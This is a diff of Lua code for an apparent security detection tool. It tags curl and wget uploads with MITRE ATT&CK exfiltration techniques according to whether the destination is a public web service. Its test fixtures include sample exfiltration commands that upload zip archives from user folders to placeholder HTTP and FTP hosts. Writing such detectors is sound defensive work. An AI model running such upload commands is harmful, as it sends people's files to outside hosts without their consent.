@@ -3,6 +3,7 @@
 local asked = require "kaiseki.detect.asked"
 local command = require "kaiseki.detect.command"
 local places = require "kaiseki.detect.places"
+local remote = require "kaiseki.detect.remote"
 local tools = require "kaiseki.detect.tools"
 local trusted = require "kaiseki.detect.trusted"
 local lolbins = require "kaiseki.windows.lolbins"
@@ -80,6 +81,15 @@ local function uploaded(line)
     end) or {}
 end
 
+local BY_KIND = { document = "T1567.002", drop = "T1567.002", code = "T1567.001", paste = "T1567.003",
+                  bot = "T1567.004" }
+
+-- Whether it goes to a service of the web that anybody may use.
+local function upload_technique(target)
+    local service = remote.web_service { host = target:match "^%a+://([^/:]+)" or target:match "^[^/:]+" }
+    return service and BY_KIND[service.kind] or "T1048"
+end
+
 -- What a program sends to a server that is named like itself is its own business.
 local function excuse_upload(finding, case)
     local name = finding.process and places.program(finding.process.name or "") or ""
@@ -120,6 +130,7 @@ end
 local ROWS = {
     { id = "exfiltration.upload-tool", programs = { "curl", "wget" }, attack = "T1048", target = upload_target,
       verb = "upload-with-tool", role = "url", more = uploaded, excuse = excuse_upload,
+      attacks = { "T1048", "T1567", "T1567.001", "T1567.002", "T1567.003", "T1567.004" }, technique = upload_technique,
       match = [[curl -s -F file=@C:\Users\Public\a.zip https://upload.example]],
       other = [[curl -T C:\Users\x\a.zip ftp://203.0.113.5/]],
       no_match = [[curl -H "From: me@x.example" -d user=a@b.example https://shop.example]] },
